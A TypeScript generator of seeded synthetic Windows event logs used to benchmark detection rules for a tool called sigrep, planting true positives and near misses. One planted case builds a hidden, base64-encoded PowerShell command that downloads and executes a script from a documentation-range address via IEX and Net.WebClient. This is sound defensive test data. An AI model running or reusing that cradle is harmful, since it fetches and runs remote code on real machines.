/**
 * A seeded generator of realistic Windows event logs (JSON lines, the flat NXLog/Logstash shape: EventData
 * fields at the top level, a rendered `Message`), for reproducing sigrep's benchmarks without the shared
 * corpus. Sysmon process creation (1), network connections (3) and image loads (7), Security logons (4624,
 * 4625) and PowerShell script blocks (4104), with skewed (Zipf-like) choices of hosts, users and programs,
 * near misses for every bundled rule, and an exact number of planted true positives per bundled rule.
 *
 * Key decision: everything comes from one small PRNG seeded by the caller, and nothing reads the clock,
 * so a seed names a corpus byte for byte. See README.md beside this file.
 */
import * as fs from 'node:fs';

export interface SyntheticOptions {
  readonly seed: number;
  /** Events to write (planted ones included). One of `events` / `bytes` is needed; with both, the first reached stops. */
  readonly events?: number;
  /** Bytes to write (at least; the last line is whole). */
  readonly bytes?: number;
  /** True positives planted per bundled JSON rule (default 5); they are spread evenly through the corpus. */
  readonly plantedPerRule?: number;
}

/** Titles of the bundled rules (rules/) the generator plants events for. */
export const PLANTED_RULES = [
  'Encoded PowerShell Command Line',
  'Whoami Execution',
  'Failed Logon For Administrator Account',
  'Outbound RDP To A Non-Private Address',
  'PowerShell Network Connections',
] as const;
export type PlantedRule = (typeof PLANTED_RULES)[number];

export interface SyntheticSummary {
  readonly events: number;
  readonly bytes: number;
  /** Events written for each bundled rule; the rule detects exactly these (the background holds only near misses). */
  readonly planted: Readonly<Record<PlantedRule, number>>;
  /** The SSH rule (plain-text auth logs) has no event in this JSON corpus: it must detect nothing. */
  readonly notPlanted: readonly string[];
}

const DEFAULT_PLANTED = 5;
/** Average line length, used only to spread planted events when a byte size is asked for. */
const ESTIMATED_LINE_BYTES = 1500;

/** sfc32: small, fast, and good enough for test data; seeded through splitmix32 so nearby seeds differ. */
export function createRandom(seed: number): () => number {
  let s = seed >>> 0;
  const split = (): number => {
    s = (s + 0x9e3779b9) >>> 0;
    let z = s;
    z = Math.imul(z ^ (z >>> 16), 0x85ebca6b) >>> 0;
    z = Math.imul(z ^ (z >>> 13), 0xc2b2ae35) >>> 0;
    return (z ^ (z >>> 16)) >>> 0;
  };
  let a = split();
  let b = split();
  let c = split();
  let d = split();
  return () => {
    const t = (((a + b) >>> 0) + d) >>> 0;
    d = (d + 1) >>> 0;
    a = b ^ (b >>> 9);
    b = (c + (c << 3)) >>> 0;
    c = ((c << 21) | (c >>> 11)) >>> 0;
    c = (c + t) >>> 0;
    return t / 4294967296;
  };
}

type Rand = () => number;

interface Weighted<T> {
  readonly items: readonly T[];
  readonly cumulative: readonly number[];
}

/** Zipf-like weights 1/(rank+1)^s: a few values are common, most are rare, as in real logs. */
function zipf<T>(items: readonly T[], s = 1.1): Weighted<T> {
  let sum = 0;
  const cumulative = items.map((_, i) => (sum += 1 / Math.pow(i + 1, s)));
  return { items, cumulative: cumulative.map((c) => c / sum) };
}

function weighted<T>(pairs: readonly (readonly [T, number])[]): Weighted<T> {
  const total = pairs.reduce((n, [, w]) => n + w, 0);
  let sum = 0;
  return { items: pairs.map(([v]) => v), cumulative: pairs.map(([, w]) => (sum += w) / total) };
}

function pick<T>(rand: Rand, w: Weighted<T>): T {
  const r = rand();
  let lo = 0;
  let hi = w.cumulative.length - 1;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if (w.cumulative[mid]! < r) lo = mid + 1;
    else hi = mid;
  }
  return w.items[lo]!;
}

function int(rand: Rand, lo: number, hi: number): number {
  return lo + Math.floor(rand() * (hi - lo + 1));
}

function hex(rand: Rand, n: number): string {
  let s = '';
  for (let i = 0; i < n; i++) s += '0123456789ABCDEF'[Math.floor(rand() * 16)]!;
  return s;
}

function guid(rand: Rand): string {
  return `{${hex(rand, 8)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 4)}-${hex(rand, 12)}}`.toLowerCase();
}

const DOMAIN = 'CORP';
const HOSTS = zipf(['WKS0142.corp.example', 'WKS0007.corp.example', 'WKS0233.corp.example', 'SRV-FILE01.corp.example', 'WKS0019.corp.example', 'DC01.corp.example', 'WKS0311.corp.example', 'SRV-SQL02.corp.example', 'WKS0088.corp.example', 'DC02.corp.example', 'WKS0404.corp.example', 'SRV-WEB03.corp.example']);
const PEOPLE = ['alice', 'bob', 'carol', 'dave', 'erin', 'frank', 'grace', 'heidi', 'ivan', 'judy', 'mallory', 'niaj', 'olivia', 'peggy', 'rupert', 'sybil', 'trent', 'victor', 'walter'];
/** Who runs processes: mostly the system accounts, then people with a Zipf skew. */
const USERS = weighted<string>([
  ['NT AUTHORITY\\SYSTEM', 40],
  ['NT AUTHORITY\\LOCAL SERVICE', 6],
  ['NT AUTHORITY\\NETWORK SERVICE', 6],
  ...PEOPLE.map((p, i) => [`${DOMAIN}\\${p}`, 30 / (i + 1)] as const),
]);
const PERSON = zipf(PEOPLE);

interface Program {
  readonly image: string;
  readonly original: string;
  readonly description: string;
  readonly product: string;
  readonly company: string;
  readonly commandLines: readonly string[];
}

const SYS32 = 'C:\\Windows\\System32';
const PS = `${SYS32}\\WindowsPowerShell\\v1.0\\powershell.exe`;
const MS = 'Microsoft Corporation';
const WINDOWS = 'Microsoft® Windows® Operating System';

const program = (image: string, original: string, description: string, commandLines: readonly string[], product = WINDOWS, company = MS): Program => ({
  image,
  original,
  description,
  product,
  company,
  commandLines,
});

/** Programs by how often they start; command lines hold no encoded-command flag (those are planted). */
const PROGRAMS = zipf<Program>([
  program(`${SYS32}\\svchost.exe`, 'svchost.exe', 'Host Process for Windows Services', ['C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', 'C:\\Windows\\system32\\svchost.exe -k LocalServiceNetworkRestricted -p', 'C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc']),
  program(`${SYS32}\\conhost.exe`, 'CONHOST.EXE', 'Console Window Host', ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1']),
  program('C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'chrome.exe', 'Google Chrome', ['"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=1712,i,1555 --lang=en-US', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService'], 'Google Chrome', 'Google LLC'),
  program(PS, 'PowerShell.EXE', 'Windows PowerShell', [`"${PS}" -NoProfile -ExecutionPolicy Bypass -File C:\\ProgramData\\Agent\\inventory.ps1`, `"${PS}" -NonInteractive -Command "Get-Service | Where-Object Status -eq Running"`, 'powershell.exe -NoLogo -WindowStyle Normal']),
  program(`${SYS32}\\cmd.exe`, 'Cmd.Exe', 'Windows Command Processor', ['C:\\Windows\\system32\\cmd.exe /c "C:\\ProgramData\\Agent\\collect.cmd"', 'cmd.exe /c dir /s C:\\Users\\Public', 'C:\\Windows\\system32\\cmd.exe /d /c ipconfig /all']),
  program(`${SYS32}\\taskhostw.exe`, 'taskhostw.exe', 'Host Process for Windows Tasks', ['taskhostw.exe Install $(Arg0)', 'taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly']),
  program(`${SYS32}\\RuntimeBroker.exe`, 'RuntimeBroker.exe', 'Runtime Broker', ['C:\\Windows\\System32\\RuntimeBroker.exe -Embedding']),
  program('C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'Outlook.exe', 'Microsoft Outlook', ['"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" /recycle'], 'Microsoft Outlook'),
  program(`${SYS32}\\whoami.exe`, 'whoami.exe', 'whoami - displays logged on user information', ['whoami /groups', 'whoami']),
  program(`${SYS32}\\WindowsPowerShell\\v1.0\\powershell_ise.exe`, 'powershell_ise.EXE', 'Windows PowerShell ISE', ['"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe"']),
  program(`${SYS32}\\msiexec.exe`, 'msiexec.exe', 'Windows® installer', ['C:\\Windows\\system32\\msiexec.exe /V', 'MsiExec.exe -Embedding 5B2F1C0D']),
  program(`${SYS32}\\schtasks.exe`, 'schtasks.exe', 'Task Scheduler Configuration Tool', ['schtasks.exe /query /fo LIST /v', 'schtasks /run /tn "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag"']),
  program(`${SYS32}\\net.exe`, 'net.exe', 'Net Command', ['net use', 'net time \\\\DC01 /set /y']),
  program('C:\\Program Files\\Notepad++\\notepad++.exe', 'notepad++.exe', 'Notepad++', ['"C:\\Program Files\\Notepad++\\notepad++.exe" C:\\Users\\Public\\notes.txt'], 'Notepad++', 'Don HO don.h@free.fr'),
  program(`${SYS32}\\rundll32.exe`, 'RUNDLL32.EXE', 'Windows host process (Rundll32)', ['rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll {9aa46009-3ce0-458a-a354-715610a075e6}']),
]);

const PARENTS = zipf([`${SYS32}\\services.exe`, 'C:\\Windows\\explorer.exe', `${SYS32}\\svchost.exe`, `${SYS32}\\cmd.exe`, PS, `${SYS32}\\userinit.exe`]);
const DLLS = zipf(['ntdll.dll', 'kernel32.dll', 'KernelBase.dll', 'advapi32.dll', 'msvcrt.dll', 'sechost.dll', 'rpcrt4.dll', 'combase.dll', 'ucrtbase.dll', 'user32.dll', 'win32u.dll', 'gdi32.dll', 'ws2_32.dll', 'crypt32.dll', 'wintrust.dll', 'amsi.dll', 'clr.dll', 'System.Management.Automation.ni.dll']);
const PORTS = weighted<number>([[443, 50], [80, 12], [445, 10], [53, 8], [135, 5], [389, 5], [88, 4], [3389, 2], [5985, 2], [8080, 2]]);
const SCRIPTS = zipf([
  'prompt',
  '$global:?',
  'Get-ChildItem -Path C:\\ProgramData\\Agent -Filter *.log | Remove-Item',
  'Import-Module Microsoft.PowerShell.Management',
  'Get-Service | Where-Object { $_.Status -eq "Running" } | Select-Object Name, DisplayName',
  'Set-StrictMode -Version 1; $_.PSMessageDetails',
  'function Get-Inventory {\n  param([string]$ComputerName = $env:COMPUTERNAME)\n  Get-CimInstance -ClassName Win32_OperatingSystem -ComputerName $ComputerName |\n    Select-Object Caption, Version, LastBootUpTime\n}\nGet-Inventory',
  'Test-NetConnection -ComputerName SRV-FILE01 -Port 445',
]);

const LOGON_TYPES = weighted<string>([['3', 55], ['2', 10], ['5', 20], ['10', 5], ['11', 5], ['7', 5]]);

/** Private addresses (the rules' filters) with the odd IPv6 link-local one. */
function privateIp(rand: Rand): string {
  switch (int(rand, 0, 3)) {
    case 0:
      return `10.${int(rand, 0, 40)}.${int(rand, 0, 255)}.${int(rand, 1, 254)}`;
    case 1:
      return `192.168.${int(rand, 0, 20)}.${int(rand, 1, 254)}`;
    case 2:
      return `172.${int(rand, 16, 31)}.${int(rand, 0, 255)}.${int(rand, 1, 254)}`;
    default:
      return '127.0.0.1';
  }
}

/** Public addresses from the documentation ranges (no real host is named). */
function publicIp(rand: Rand): string {
  return rand() < 0.5 ? `198.51.100.${int(rand, 1, 254)}` : `203.0.113.${int(rand, 1, 254)}`;
}

type Event = Record<string, unknown>;

class Writer {
  private time: number;
  private record = 1_000_000;
  constructor(private readonly rand: Rand) {
    // A fixed start (2026-11-02 08:00 UTC) plus random gaps: timestamps are part of the seeded bytes.
    this.time = Date.UTC(2026, 10, 2, 8, 0, 0) + int(rand, 0, 3_600_000);
  }

  private common(host: string, channel: string, source: string, eventId: number, task: number): { head: Event; utc: string } {
    this.time += int(this.rand, 0, 40);
    const iso = new Date(this.time).toISOString();
    const utc = iso.replace('T', ' ').replace('Z', '');
    const head: Event = {
      '@timestamp': iso,
      '@version': '1',
      Hostname: host,
      Channel: channel,
      SourceName: source,
      EventID: eventId,
      Task: task,
      RecordNumber: this.record++,
      EventTime: utc.slice(0, 19),
      Severity: 'INFO',
      tags: ['syntheticDataset'],
    };
    return { head, utc };
  }

  processCreation(o: { image: string; original: string; commandLine: string; user: string; parent?: string; program?: Program }): Event {
    const r = this.rand;
    const host = pick(r, HOSTS);
    const { head, utc } = this.common(host, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 1, 1);
    const parent = o.parent ?? pick(r, PARENTS);
    const p = o.program;
    const fields: Event = {
      RuleName: '-',
      UtcTime: utc,
      ProcessGuid: guid(r),
      ProcessId: String(int(r, 400, 12000)),
      Image: o.image,
      FileVersion: `10.0.19041.${int(r, 1, 3000)} (WinBuild.160101.0800)`,
      Description: p?.description ?? 'Windows PowerShell',
      Product: p?.product ?? WINDOWS,
      Company: p?.company ?? MS,
      OriginalFileName: o.original,
      CommandLine: o.commandLine,
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: o.user,
      LogonGuid: guid(r),
      LogonId: `0x${hex(r, 6).toLowerCase()}`,
      TerminalSessionId: String(int(r, 0, 3)),
      IntegrityLevel: o.user.startsWith('NT AUTHORITY') ? 'System' : 'Medium',
      Hashes: `SHA1=${hex(r, 40)},MD5=${hex(r, 32)},SHA256=${hex(r, 64)},IMPHASH=${hex(r, 32)}`,
      ParentProcessGuid: guid(r),
      ParentProcessId: String(int(r, 400, 12000)),
      ParentImage: parent,
      ParentCommandLine: parent,
    };
    const message = `Process Create:\r\n${Object.entries(fields)
      .map(([k, v]) => `${k}: ${String(v)}`)
      .join('\r\n')}`;
    return { ...head, ...fields, Message: message };
  }

  backgroundProcess(): Event {
    const r = this.rand;
    const p = pick(r, PROGRAMS);
    // whoami in the background only as SYSTEM: a near miss of the whoami rule.
    const user = p.original === 'whoami.exe' ? 'NT AUTHORITY\\SYSTEM' : pick(r, USERS);
    return this.processCreation({ image: p.image, original: p.original, commandLine: p.commandLines[int(r, 0, p.commandLines.length - 1)]!, user, program: p });
  }

  network(o: { image: string; user: string; ip: string; port: number; initiated: boolean }): Event {
    const r = this.rand;
    const host = pick(r, HOSTS);
    const { head, utc } = this.common(host, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 3, 3);
    const fields: Event = {
      RuleName: '-',
      UtcTime: utc,
      ProcessGuid: guid(r),
      ProcessId: String(int(r, 400, 12000)),
      Image: o.image,
      User: o.user,
      Protocol: o.port === 53 ? 'udp' : 'tcp',
      Initiated: o.initiated ? 'true' : 'false',
      SourceIsIpv6: 'false',
      SourceIp: `10.${int(r, 0, 40)}.${int(r, 0, 255)}.${int(r, 1, 254)}`,
      SourceHostname: host,
      SourcePort: String(int(r, 49152, 65535)),
      SourcePortName: '-',
      DestinationIsIpv6: 'false',
      DestinationIp: o.ip,
      DestinationHostname: '-',
      DestinationPort: String(o.port),
      DestinationPortName: o.port === 443 ? 'https' : o.port === 80 ? 'http' : o.port === 3389 ? 'ms-wbt-server' : '-',
    };
    const message = `Network connection detected:\r\n${Object.entries(fields)
      .map(([k, v]) => `${k}: ${String(v)}`)
      .join('\r\n')}`;
    return { ...head, ...fields, Message: message };
  }

  backgroundNetwork(): Event {
    const r = this.rand;
    const p = pick(r, PROGRAMS);
    const port = pick(r, PORTS);
    const powershell = p.image === PS;
    // Near misses: PowerShell only as SYSTEM to private addresses; RDP only to private addresses.
    const user = powershell ? 'NT AUTHORITY\\SYSTEM' : pick(r, USERS);
    const ip = powershell || port !== 443 ? privateIp(r) : rand2(r) ? publicIp(r) : privateIp(r);
    return this.network({ image: p.image, user, ip, port, initiated: r() < 0.9 });
  }

  imageLoad(): Event {
    const r = this.rand;
    const host = pick(r, HOSTS);
    const { head, utc } = this.common(host, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 7, 7);
    const p = pick(r, PROGRAMS);
    const dll = pick(r, DLLS);
    const fields: Event = {
      RuleName: '-',
      UtcTime: utc,
      ProcessGuid: guid(r),
      ProcessId: String(int(r, 400, 12000)),
      Image: p.image,
      ImageLoaded: dll.endsWith('.ni.dll') ? `C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\${dll}` : `${SYS32}\\${dll}`,
      FileVersion: `10.0.19041.${int(r, 1, 3000)} (WinBuild.160101.0800)`,
      Description: dll.replace(/\.dll$/i, ''),
      Product: WINDOWS,
      Company: MS,
      OriginalFileName: dll,
      Hashes: `SHA1=${hex(r, 40)},MD5=${hex(r, 32)},SHA256=${hex(r, 64)},IMPHASH=${hex(r, 32)}`,
      Signed: 'true',
      Signature: 'Microsoft Windows',
      SignatureStatus: 'Valid',
      User: pick(r, USERS),
    };
    const message = `Image loaded:\r\n${Object.entries(fields)
      .map(([k, v]) => `${k}: ${String(v)}`)
      .join('\r\n')}`;
    return { ...head, ...fields, Message: message };
  }

  logon(o: { failed: boolean; user: string; logonType: string; ip: string }): Event {
    const r = this.rand;
    const dc = r() < 0.5 ? 'DC01.corp.example' : 'DC02.corp.example';
    const { head } = this.common(dc, 'Security', 'Microsoft-Windows-Security-Auditing', o.failed ? 4625 : 4624, 12544);
    const fields: Event = {
      SubjectUserSid: 'S-1-0-0',
      SubjectUserName: '-',
      SubjectDomainName: '-',
      SubjectLogonId: '0x0',
      TargetUserSid: o.failed ? 'S-1-0-0' : `S-1-5-21-3921547152-1541289323-1283647021-${int(r, 1100, 1400)}`,
      TargetUserName: o.user,
      TargetDomainName: DOMAIN,
      ...(o.failed ? { Status: '0xc000006d', FailureReason: '%%2313', SubStatus: r() < 0.8 ? '0xc000006a' : '0xc0000064' } : { TargetLogonId: `0x${hex(r, 7).toLowerCase()}` }),
      LogonType: o.logonType,
      LogonProcessName: o.logonType === '3' ? 'NtLmSsp ' : 'User32 ',
      AuthenticationPackageName: o.logonType === '3' ? 'NTLM' : 'Negotiate',
      WorkstationName: pick(r, HOSTS).split('.')[0],
      LogonGuid: '{00000000-0000-0000-0000-000000000000}',
      KeyLength: '0',
      ProcessId: '0x0',
      ProcessName: '-',
      IpAddress: o.ip,
      IpPort: String(int(r, 49152, 65535)),
    };
    const title = o.failed ? 'An account failed to log on.' : 'An account was successfully logged on.';
    const message = `${title}\r\n\r\nSubject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\r\nLogon Type:\t\t\t${o.logonType}\r\n\r\nAccount For Which Logon ${o.failed ? 'Failed' : 'Succeeded'}:\r\n\tAccount Name:\t\t${o.user}\r\n\tAccount Domain:\t\t${DOMAIN}\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\t${String(fields.WorkstationName)}\r\n\tSource Network Address:\t${o.ip}\r\n\tSource Port:\t\t${String(fields.IpPort)}`;
    return { ...head, ...fields, Message: message };
  }

  backgroundLogon(failed: boolean): Event {
    const r = this.rand;
    if (failed && r() < 0.15) {
      // Near miss of the administrator rule: an interactive (type 2) failure at the console.
      return this.logon({ failed, user: 'Administrator', logonType: '2', ip: '127.0.0.1' });
    }
    return this.logon({ failed, user: pick(r, PERSON), logonType: pick(r, LOGON_TYPES), ip: privateIp(r) });
  }

  scriptBlock(): Event {
    const r = this.rand;
    const { head } = this.common(pick(r, HOSTS), 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, 2);
    const text = pick(r, SCRIPTS);
    const id = guid(r).slice(1, -1);
    return {
      ...head,
      Level: '5',
      MessageNumber: '1',
      MessageTotal: '1',
      ScriptBlockText: text,
      ScriptBlockId: id,
      Path: r() < 0.5 ? 'C:\\ProgramData\\Agent\\inventory.ps1' : null,
      Message: `Creating Scriptblock text (1 of 1):\r\n${text}\r\n\r\nScriptBlock ID: ${id}\r\nPath: `,
    };
  }

  background(): Event {
    const r = this.rand;
    const x = r();
    if (x < 0.16) return this.backgroundProcess();
    if (x < 0.36) return this.backgroundNetwork();
    if (x < 0.7) return this.imageLoad();
    if (x < 0.85) return this.backgroundLogon(false);
    if (x < 0.88) return this.backgroundLogon(true);
    return this.scriptBlock();
  }

  planted(rule: PlantedRule): Event {
    const r = this.rand;
    const person = `${DOMAIN}\\${pick(r, PERSON)}`;
    switch (rule) {
      case 'Encoded PowerShell Command Line':
        return this.processCreation({ image: PS, original: 'PowerShell.EXE', commandLine: `"${PS}" -nop -w hidden -enc ${btoaUtf16(`IEX (New-Object Net.WebClient).DownloadString('http://${publicIp(r)}/a')`)}`, user: person, parent: 'C:\\Windows\\explorer.exe' });
      case 'Whoami Execution':
        return this.processCreation({ image: `${SYS32}\\whoami.exe`, original: 'whoami.exe', commandLine: 'whoami /all', user: person, parent: `${SYS32}\\cmd.exe` });
      case 'Failed Logon For Administrator Account':
        return this.logon({ failed: true, user: r() < 0.5 ? 'Administrator' : 'admin', logonType: r() < 0.7 ? '3' : '10', ip: publicIp(r) });
      case 'Outbound RDP To A Non-Private Address':
        return this.network({ image: `${SYS32}\\mstsc.exe`, user: person, ip: publicIp(r), port: 3389, initiated: true });
      case 'PowerShell Network Connections':
        return this.network({ image: PS, user: person, ip: publicIp(r), port: 443, initiated: true });
    }
  }
}

function rand2(r: Rand): boolean {
  return r() < 0.5;
}

/** Base64 of UTF-16LE text, as PowerShell's -EncodedCommand takes it. */
function btoaUtf16(text: string): string {
  return Buffer.from(text, 'utf16le').toString('base64');
}

/**
 * The corpus as lines (without newlines), in order. `onDone` receives the summary after the last line.
 * Planted events are spread evenly over the expected length; if the corpus ends early, the rest follow
 * at the end, so their number is always exact.
 */
export function* syntheticLines(options: SyntheticOptions, onDone?: (summary: SyntheticSummary) => void): Generator<string> {
  if (options.events === undefined && options.bytes === undefined) throw new RangeError('synthetic corpus: give events or bytes');
  const rand = createRandom(options.seed);
  const perRule = options.plantedPerRule ?? DEFAULT_PLANTED;
  const queue: PlantedRule[] = [];
  for (let i = 0; i < perRule; i++) queue.push(...PLANTED_RULES);
  const expected = Math.min(options.events ?? Infinity, options.bytes !== undefined ? Math.ceil(options.bytes / ESTIMATED_LINE_BYTES) : Infinity);
  const every = Math.max(1, Math.floor(expected / (queue.length + 1)));
  const planted = Object.fromEntries(PLANTED_RULES.map((t) => [t, 0])) as Record<PlantedRule, number>;
  const w = new Writer(rand);
  let events = 0;
  let bytes = 0;
  const full = (): boolean => (options.events !== undefined && events >= options.events) || (options.bytes !== undefined && bytes >= options.bytes);
  while (queue.length > 0 || !full()) {
    let event: Event;
    const mustPlant = queue.length > 0 && (full() || (events + 1) % every === 0 || (options.events !== undefined && options.events - events <= queue.length));
    if (mustPlant) {
      const rule = queue.shift()!;
      planted[rule]++;
      event = w.planted(rule);
    } else {
      event = w.background();
    }
    const line = JSON.stringify(event);
    events++;
    bytes += Buffer.byteLength(line) + 1;
    yield line;
  }
  onDone?.({ events, bytes, planted, notPlanted: ['SSH Failed Password Or Invalid User'] });
}

/** The whole corpus in memory (for small sizes: tests, micro benchmarks). */
export function generateSynthetic(options: SyntheticOptions): { text: string; summary: SyntheticSummary } {
  let summary: SyntheticSummary | undefined;
  const lines = [...syntheticLines(options, (s) => (summary = s))];
  return { text: `${lines.join('\n')}\n`, summary: summary! };
}

/** Writes the corpus to a file in large blocks; memory stays small whatever the size. */
export function writeSynthetic(file: string, options: SyntheticOptions): SyntheticSummary {
  const fd = fs.openSync(file, 'w');
  let summary: SyntheticSummary | undefined;
  try {
    let block: string[] = [];
    let blockBytes = 0;
    for (const line of syntheticLines(options, (s) => (summary = s))) {
      block.push(line);
      blockBytes += line.length;
      if (blockBytes >= 4 << 20) {
        fs.writeSync(fd, `${block.join('\n')}\n`);
        block = [];
        blockBytes = 0;
      }
    }
    if (block.length > 0) fs.writeSync(fd, `${block.join('\n')}\n`);
  } finally {
    fs.closeSync(fd);
  }
  return summary!;
}

function main(argv: readonly string[]): void {
  const arg = (name: string): string | undefined => {
    const at = argv.indexOf(`--${name}`);
    return at >= 0 ? argv[at + 1] : undefined;
  };
  const out = arg('out');
  const seed = Number(arg('seed') ?? 1);
  const events = arg('events');
  const mb = arg('mb');
  const planted = arg('planted');
  if (!out || !Number.isInteger(seed) || (events === undefined && mb === undefined)) {
    process.stderr.write('usage: node dist/corpora/synthetic/generate.js --out FILE (--events N | --mb N) [--seed N] [--planted N]\n');
    process.exitCode = 2;
    return;
  }
  const summary = writeSynthetic(out, {
    seed,
    ...(events !== undefined ? { events: Number(events) } : {}),
    ...(mb !== undefined ? { bytes: Number(mb) * 1e6 } : {}),
    ...(planted !== undefined ? { plantedPerRule: Number(planted) } : {}),
  });
  process.stdout.write(`${JSON.stringify(summary)}\n`);
}

if (require.main === module) main(process.argv.slice(2));
